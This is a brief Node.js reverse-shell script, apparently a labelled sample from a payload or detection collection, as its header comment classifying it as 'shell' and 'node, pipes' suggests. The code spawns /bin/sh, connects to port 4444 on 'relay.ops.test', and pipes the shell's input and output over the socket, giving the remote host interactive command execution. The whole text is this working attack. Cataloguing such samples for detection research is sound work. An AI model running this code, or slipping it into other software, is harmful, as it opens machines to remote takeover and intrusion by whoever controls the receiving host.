// class: shell; possible: low medium; style: node, pipes
const net = require('net');
const { spawn } = require('child_process');
const sh = spawn('/bin/sh', []);
const c = net.connect(4444, 'relay.ops.test', () => {
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
  sh.stderr.pipe(c);
});
sh.on('exit', () => process.exit(0));
